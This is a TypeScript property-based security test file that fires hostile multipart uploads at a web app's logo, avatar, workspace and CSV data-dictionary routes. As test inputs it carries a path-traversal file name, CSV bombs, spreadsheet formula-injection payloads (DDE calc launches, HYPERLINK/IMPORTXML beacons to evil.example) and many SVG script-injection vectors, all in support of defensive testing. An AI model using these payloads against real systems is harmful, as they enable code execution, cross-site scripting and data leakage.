import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvValue } from '../../common/csv';
import { COMPANY_PROFILE_FIELDS, LOGO_MAX_BYTES } from '../../common/schemas/company';
import { AVATAR_MAX_BYTES } from '../../common/schemas/users';
import { DICTIONARY_UPLOAD_MAX_BYTES, DICTIONARY_UPLOAD_MAX_ROWS } from '../../server/tables/dictionary';
import { createTestServer, type TestServer } from './harness';
import { call, signInAdmin } from './helpers';
import { changedTables, companyTables, tenantDigester, type TenantDigest } from './hostile/digest';
import { seedTenantRecords, type TenantRecords } from './hostile/fixtures';
import { encodeForm, FILE_CONTENTS, formArbitrary, PNG, type FormOptions, type FormPart } from './hostile/multipart';

/**
 * Hostile uploads, beyond what the areas' own tests prove case by case (company-profile,
 * users-profile, tables, workspaces): property-based forms over every multipart route — files
 * whose bytes lie about their name and type, files above the limit, traversal and control
 * characters in file names, hostile fields, forms broken in their structure — and, for the data
 * dictionary, CSV bombs and formula injection; for logos, SVGs assembled from script-carrying
 * pieces. Every answer is below 500, every refusal has a message, and a refusal changes nothing.
 */

const SEED = Number(process.env.HOSTILE_SEED ?? 20_250_611);
const RUNS = Number(process.env.HOSTILE_UPLOAD_RUNS ?? 40);

let server: TestServer;
let token: string;
let records: TenantRecords;
let digest: () => Promise<TenantDigest>;

beforeAll(async () => {
  server = await createTestServer();
  token = (await signInAdmin(server)).accessToken!;
  records = await seedTenantRecords(server, token);
  digest = tenantDigester(server.db, await companyTables(server.db), server.company.companyId);
});
afterAll(async () => server?.close());

const sendForm = (method: 'PUT' | 'POST', url: string, body: Buffer, contentType: string) =>
  server.app.inject({ method, url: `/api/v1${url}`, headers: { 'x-access-token': token, 'content-type': contentType }, payload: body });

const formOf = (parts: FormPart[]) => encodeForm(parts, 'none');

function expectAnswered(res: { statusCode: number; body: string }, what: string) {
  expect(res.statusCode, `${what} → ${res.statusCode} ${res.body.slice(0, 300)}`).toBeLessThan(500);
  if (res.statusCode >= 400) {
    let message: unknown;
    try {
      message = JSON.parse(res.body).message;
    } catch {
      message = undefined;
    }
    expect(typeof message === 'string' && message.length > 0, `a refusal without a message: ${what} → ${res.body.slice(0, 300)}`).toBe(
      true,
    );
  }
}

interface UploadRoute extends FormOptions {
  method: 'PUT' | 'POST';
  url: () => string;
}

const UPLOAD_ROUTES: Record<string, UploadRoute> = {
  'PUT /company (logo)': {
    method: 'PUT',
    url: () => '/company',
    fileField: 'logo',
    textFields: [...COMPANY_PROFILE_FIELDS, 'removeLogo'],
    maxFileBytes: LOGO_MAX_BYTES,
  },
  'PUT /user/profile (avatar)': {
    method: 'PUT',
    url: () => '/user/profile',
    fileField: 'avatar',
    textFields: ['firstName', 'lastName', 'username', 'phone', 'removeAvatar'],
    maxFileBytes: AVATAR_MAX_BYTES,
  },
  'POST /workspaces (form)': { method: 'POST', url: () => '/workspaces', textFields: ['name', 'description'] },
  'PUT /workspace (form)': { method: 'PUT', url: () => '/workspace', textFields: ['id', 'name', 'description', 'isActive'] },
  'POST /tables/dictionary/upload/{id} (CSV)': {
    method: 'POST',
    url: () => `/tables/dictionary/upload/${records.tableId}`,
    fileField: 'file',
    textFields: ['column', 'description'],
    maxFileBytes: DICTIONARY_UPLOAD_MAX_BYTES,
  },
};

describe('hostile multipart forms', () => {
  it.each(Object.entries(UPLOAD_ROUTES))('%s: never a 500, refusals say why and change nothing', async (_name, route) => {
    let baseline = await digest();
    await fc.assert(
      fc.asyncProperty(formArbitrary(route), async (form) => {
        const res = await sendForm(route.method, route.url(), form.body, form.contentType);
        expectAnswered(res, form.describe);
        if (res.statusCode >= 400) {
          expect(
            changedTables(baseline, await digest()),
            `rows changed by a refused upload: ${form.describe} → ${res.body.slice(0, 200)}`,
          ).toEqual([]);
        } else {
          // A form that ends before its closing boundary is not whole: none of it may be taken.
          const unfinished = form.parts.length > 0 && (form.breakage === 'cut' || form.breakage === 'noClosingBoundary');
          expect(unfinished, `an unfinished form was taken: ${form.describe} → ${res.statusCode} ${res.body.slice(0, 200)}`).toBe(false);
          baseline = await digest();
        }
      }),
      { seed: SEED, numRuns: RUNS, endOnFailure: true },
    );
  });

  it('stores no file name: a file named with traversal is kept by its bytes only', async () => {
    const form = formOf([{ name: 'avatar', filename: '../../../../etc/passwd', type: 'image/png', data: PNG }]);
    const res = await sendForm('PUT', '/user/profile', form.body, form.contentType);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.body).not.toContain('passwd');
  });
});

describe('CSV bombs against the data dictionary upload', () => {
  const upload = (text: string | Buffer, filename = 'dictionary.csv') => {
    const form = formOf([{ name: 'file', filename, type: 'text/csv', data: Buffer.isBuffer(text) ? text : Buffer.from(text) }]);
    return sendForm('POST', `/tables/dictionary/upload/${records.tableId}`, form.body, form.contentType);
  };
  const underLimit = DICTIONARY_UPLOAD_MAX_BYTES - 1024;

  it.each([
    ['a header of ~500,000 columns', () => `column,${'x,'.repeat(Math.floor(underLimit / 2) - 4)}x\n`, /^the file is not valid CSV/],
    [
      'a header of 10,000 unknown columns (within the record size)',
      () => `column,${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',')}\n`,
      /^line 1: unknown columns "c0", "c1"/,
    ],
    [
      'a header naming one column 5,000 times',
      () => `column,${'description,'.repeat(5_000)}owner\n`,
      /^line 1: "description" named twice$/,
    ],
    [
      'a header naming inherited properties',
      () => 'column,constructor,__proto__,tostring\nname,x,y,z\n',
      /^line 1: unknown columns "constructor", "__proto__", "tostring"/,
    ],
    [
      'thousands of rows naming long unknown columns',
      () => `column,description\n${Array.from({ length: 4_000 }, (_, i) => `${String(i).padStart(200, 'q')},x`).join('\n')}\n`,
      /^line 2: column "q{59}/,
    ],
    [
      'one enormous field',
      () => `column,description\nname,${'y'.repeat(underLimit - 40)}\n`,
      /^the file is not valid CSV|description must be at most/,
    ],
    [
      'one enormous quoted field of doubled quotes',
      () => `column,description\nname,"${'""'.repeat(Math.floor(underLimit / 2) - 40)}"\n`,
      /^the file is not valid CSV|description must be at most/,
    ],
    ['a quote never closed', () => `column,description\nname,"${'z'.repeat(underLimit - 40)}\n`, /^the file is not valid CSV/],
    [
      'half a million empty-ish rows',
      () => `column\n${'x\n'.repeat(Math.floor(underLimit / 2) - 10)}`,
      new RegExp(`at most ${DICTIONARY_UPLOAD_MAX_ROWS} are read`),
    ],
    [
      'rows of nothing but separators',
      () => `column,description\n${',\n'.repeat(Math.floor(underLimit / 2) - 20)}`,
      /at most|column name is empty/,
    ],
    ['a line of 300,000 separators', () => `column,description\n${','.repeat(300_000)}\n`, /^the file is not valid CSV/],
  ])('refuses %s quickly, with a short message, changing nothing', async (_name, make, message) => {
    const before = await digest();
    const text = make();
    expect(text.length).toBeLessThanOrEqual(DICTIONARY_UPLOAD_MAX_BYTES);
    const started = performance.now();
    const res = await upload(text);
    const took = performance.now() - started;
    expect(res.statusCode, res.body.slice(0, 300)).toBe(400);
    const answer = res.json().message as string;
    expect(answer).toMatch(message);
    // The console shows the message: it must stay readable, whatever the file held.
    expect(answer.length, answer.slice(0, 300)).toBeLessThan(10_000);
    expect(took).toBeLessThan(15_000);
    expect(changedTables(before, await digest())).toEqual([]);
  });

  it('refuses a PNG named .csv, a UTF-16 file and an executable as not text, changing nothing', async () => {
    const before = await digest();
    for (const [bytes, name] of [
      [PNG, 'dictionary.csv'],
      [FILE_CONTENTS.utf16(), 'dictionary.csv'],
      [FILE_CONTENTS.windowsExecutable(), 'dictionary.csv'],
    ] as const) {
      const res = await upload(bytes, name);
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().message).toMatch(/^file: |not valid CSV|line 1: /);
    }
    expect(changedTables(before, await digest())).toEqual([]);
  });

  it('keeps formula-looking cells as text and exports every one of them defused', async () => {
    const formula = fc
      .tuple(
        fc.constantFrom('=', '+', '-', '@', '=-', '+=', '@@'),
        fc.constantFrom(
          "cmd|' /C calc'!A0",
          'HYPERLINK("http://evil.example/?"&A1,"click")',
          "SUM(1+1)*cmd|'/C notepad'!A1",
          '1+1',
          'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
          'DDE("cmd";"/C calc";"!A0")',
        ),
      )
      .map(([start, rest]) => `${start}${rest}`);
    await fc.assert(
      fc.asyncProperty(formula, formula, formula, async (description, businessName, owner) => {
        const cell = (text: string) => `"${text.replace(/"/g, '""')}"`;
        const res = await upload(
          `column,description,business_name,owner\nname,${cell(description)},${cell(businessName)},${cell(owner)}\n`,
        );
        expect(res.statusCode, res.body).toBe(200);
        const exported = await call(server, 'GET', `/table/dictionary/${records.tableId}`, { token });
        expect(exported.statusCode).toBe(200);
        const [header, ...rows] = parse(exported.body, { bom: true }) as string[][];
        const row = rows.find((r) => r[header.indexOf('column')] === 'name')!;
        for (const [column, sent] of [
          ['description', description],
          ['business_name', businessName],
          ['owner', owner],
        ] as const) {
          const exportedCell = row[header.indexOf(column)];
          // A spreadsheet opening the file sees text, not a formula: the cell starts with an apostrophe.
          expect(exportedCell, column).not.toMatch(/^[=+\-@\t\r]/);
          expect(csvValue(exportedCell), column).toBe(sent);
        }
      }),
      { seed: SEED, numRuns: 10 },
    );
  });
});

describe('SVG logos assembled from script-carrying pieces', () => {
  const PIECES = [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
    '<script href="data:text/javascript,alert(1)"/>',
    '<rect width="1" height="1" onclick="alert(1)"/>',
    '<rect width="1" height="1" OnMouseOver="alert(1)"/>',
    '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>',
    '<a href="jav&#x09;ascript:alert(1)"><rect width="1" height="1"/></a>',
    '<a href="&#106;avascript:alert(1)"><rect width="1" height="1"/></a>',
    '<a xlink:href=" JavaScript:alert(1)"><rect width="1" height="1"/></a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><text>x</text></a>',
    '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    '<use href="https://evil.example/sprite.svg#x"/>',
    '<image href="https://evil.example/track.png"/>',
    '<style>@import url(https://evil.example/x.css); rect { fill: url(javascript:alert(1)) }</style>',
    '<set attributeName="href" to="javascript:alert(1)"/>',
    '<animate attributeName="onload" values="alert(1)"/>',
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
    '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>',
    '<rect width="1" height="1" style="background:url(javascript:alert(1))"/>',
    '<circle r="2" fill="red"/>',
    '<g><rect width="2" height="2"/></g>',
  ];
  const svg = fc
    .tuple(
      fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 5 }),
      fc.constantFrom('', ' onload="alert(1)"', ' xmlns:xlink="http://www.w3.org/1999/xlink"'),
    )
    .map(([pieces, rootExtra]) => `<svg xmlns="http://www.w3.org/2000/svg"${rootExtra} viewBox="0 0 10 10">${pieces.join('')}</svg>`);

  it('stores a drawing without anything that runs or loads, or refuses it saying why', async () => {
    let baseline = await digest();
    await fc.assert(
      fc.asyncProperty(svg, async (source) => {
        const form = formOf([{ name: 'logo', filename: 'logo.svg', type: 'image/svg+xml', data: Buffer.from(source) }]);
        const res = await sendForm('PUT', '/company', form.body, form.contentType);
        expectAnswered(res, source);
        if (res.statusCode >= 400) {
          expect(changedTables(baseline, await digest())).toEqual([]);
          return;
        }
        baseline = await digest();
        const logo = await call(server, 'GET', '/company/logo', { token });
        expect(logo.statusCode).toBe(200);
        expect(logo.headers['content-type']).toMatch(/^image\/svg\+xml/);
        expect(String(logo.headers['content-security-policy'])).toMatch(/script-src 'none'|default-src 'none'/);
        // Read as a browser would: character references decoded, namespace declarations aside.
        const stored = logo.body
          .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
          .replace(/&#([0-9]+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
          .replace(/\sxmlns(:[a-z]+)?="[^"]*"/gi, '');
        expect(stored, stored).not.toMatch(/<\s*([a-z]+:)?script/i);
        expect(stored, stored).not.toMatch(/\son[a-z]+\s*=/i);
        expect(stored.replace(/\s+/g, ''), stored).not.toMatch(/javascript:|data:|foreignObject|<handler|<set\b|<animate|https?:\/\//i);
      }),
      { seed: SEED, numRuns: 30 },
    );
  });
});
